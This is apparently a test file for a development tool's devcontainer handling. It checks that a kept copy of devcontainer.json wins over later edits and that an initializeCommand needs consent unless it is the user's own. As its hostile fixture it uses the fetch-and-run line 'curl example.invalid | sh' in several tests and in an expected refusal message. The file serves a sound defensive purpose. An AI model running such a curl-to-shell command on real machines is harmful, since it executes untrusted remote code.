// A workspace's devcontainer.json is the copy its create read (core/devcontainer.ts): the loader uses
// the copy over the tree's file, and a start says when the tree's is another one and keeps the copy.
// Its initializeCommand runs without consent only when it is the one in the user's checkout.
import { describe, expect, test } from "bun:test";
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { readDevcontainer, loadProjectConfig } from "../../src/config/project.ts";
import { keptDevcontainer, ownDevcontainer, readProjectChoice, requireTrust, writeProjectChoice } from "../../src/core/devcontainer.ts";
import { tempDir, writeFiles } from "../helpers/fixtures.ts";

const OWN = `{ "image": "debian:bookworm-slim", "initializeCommand": "echo own" }`;
const WRITTEN = `{ "image": "debian:bookworm-slim", "initializeCommand": "curl example.invalid | sh" }`;
const FILE = ".devcontainer/devcontainer.json";

/** A worktree (with `files`) and a workspace folder beside it. */
function layout(path: string, files: Record<string, string>): { tree: string; dir: string } {
  const tree = writeFiles(join(path, "tree"), { "README.md": "# r\n", ...files });
  const dir = join(path, "ws");
  mkdirSync(dir);
  return { tree, dir };
}

const initialize = (tree: string, copy: Parameters<typeof loadProjectConfig>[1] = {}) =>
  loadProjectConfig(tree, { localEnv: {}, ...copy }).devcontainer?.initialize.map((s) => s.command);

describe("the loader", () => {
  test("takes the copy over the tree's file, and none for null", async () => {
    await using t = tempDir("dck");
    const { tree } = layout(t.path, { [FILE]: WRITTEN });
    expect(initialize(tree)).toEqual(["curl example.invalid | sh"]);
    expect(initialize(tree, { devcontainerCopy: { file: FILE, text: OWN } })).toEqual(["echo own"]);
    expect(initialize(tree, { devcontainerCopy: null })).toBeUndefined();
    // The copy's path is the tree's, for messages and ${localWorkspaceFolder}.
    expect(loadProjectConfig(tree, { localEnv: {}, devcontainerCopy: { file: FILE, text: OWN } }).files).toEqual([join(tree, FILE)]);
  });

  test("readDevcontainer: the path relative to the root and the text, or null", async () => {
    await using t = tempDir("dck");
    const { tree } = layout(t.path, { [FILE]: OWN });
    expect(readDevcontainer(tree)).toEqual({ file: FILE, text: OWN });
    const { tree: bare } = layout(join(t.path, "b"), {});
    expect(readDevcontainer(bare)).toBeNull();
  });
});

describe("keptDevcontainer, before a start", () => {
  test("the tree's file as create read it: no note", async () => {
    await using t = tempDir("dck");
    const { tree, dir } = layout(t.path, { [FILE]: OWN });
    writeProjectChoice(dir, { trusted: true, devcontainerCopy: { file: FILE, text: OWN } });
    expect(keptDevcontainer(dir, tree)).toBeUndefined();
  });

  test("a file written since (changed, new or removed): a note, and the copy stays", async () => {
    await using t = tempDir("dck");
    for (const [kept, now] of [
      [{ file: FILE, text: OWN }, { [FILE]: WRITTEN }],
      [null, { [FILE]: WRITTEN }],
      [{ file: FILE, text: OWN }, {}],
    ] as const) {
      const { tree, dir } = layout(join(t.path, String(Math.random()).slice(2)), now);
      writeProjectChoice(dir, { trusted: true, devcontainerCopy: kept });
      expect(keptDevcontainer(dir, tree)).toContain(`${FILE} is not the one this workspace was created with: its changes are not followed`);
      expect(readProjectChoice(dir).devcontainerCopy).toEqual(kept);
    }
  });

  test("a record from before copies were kept takes the tree's now, then holds to it", async () => {
    await using t = tempDir("dck");
    const { tree, dir } = layout(t.path, { [FILE]: OWN });
    writeProjectChoice(dir, { trusted: true });
    expect(keptDevcontainer(dir, tree)).toBeUndefined();
    expect(readProjectChoice(dir)).toEqual({ trusted: true, devcontainerCopy: { file: FILE, text: OWN } });
    writeFiles(tree, { [FILE]: WRITTEN });
    expect(keptDevcontainer(dir, tree)).toContain("is not the one this workspace was created with");
    expect(readProjectChoice(dir).devcontainerCopy).toEqual({ file: FILE, text: OWN });
  });

  test("several devcontainer.json in the tree now: the copy counts, with a note", async () => {
    await using t = tempDir("dck");
    const { tree, dir } = layout(t.path, { [FILE]: OWN, ".devcontainer/other/devcontainer.json": WRITTEN });
    writeProjectChoice(dir, { trusted: true, devcontainerCopy: { file: FILE, text: OWN } });
    expect(keptDevcontainer(dir, tree)).toContain(`${FILE} is not the one`);
  });
});

describe("ownDevcontainer, at create", () => {
  test("the same file in the checkout: the user's own; none at all: nothing to run", async () => {
    await using t = tempDir("dck");
    const { tree: checkout } = layout(t.path, { [FILE]: OWN });
    expect(ownDevcontainer({ file: FILE, text: OWN }, checkout, false)).toEqual({ own: true });
    expect(ownDevcontainer(null, checkout, true)).toEqual({ own: true });
  });

  test("another text, none in the checkout, or a checkout a workspace mounts: not, and why", async () => {
    await using t = tempDir("dck");
    const { tree: checkout } = layout(t.path, { [FILE]: OWN });
    const { tree: bare } = layout(join(t.path, "b"), {});
    expect(ownDevcontainer({ file: FILE, text: WRITTEN }, checkout, false)).toEqual({ own: false, why: `it is not the ${FILE} of ${checkout} (the branch's may come from a workspace)` });
    expect(ownDevcontainer({ file: FILE, text: OWN }, bare, false)).toMatchObject({ own: false });
    expect(ownDevcontainer({ file: FILE, text: OWN }, checkout, true)).toEqual({ own: false, why: `a workspace mounts ${checkout}, so it may have written it` });
  });

  test("the refusal names the command and why; consent or nothing to run passes", () => {
    const steps = [{ name: "initialize", command: "curl example.invalid | sh", env: {}, timeoutSeconds: 60 }];
    expect(() => requireTrust(steps, FILE, false, "the repository was cloned")).toThrow(`${FILE} runs a command on this machine (initializeCommand), and the repository was cloned: curl example.invalid | sh`);
    expect(() => requireTrust(steps, FILE, true, "the repository was cloned")).not.toThrow();
    expect(() => requireTrust([], FILE, false)).not.toThrow();
  });
});
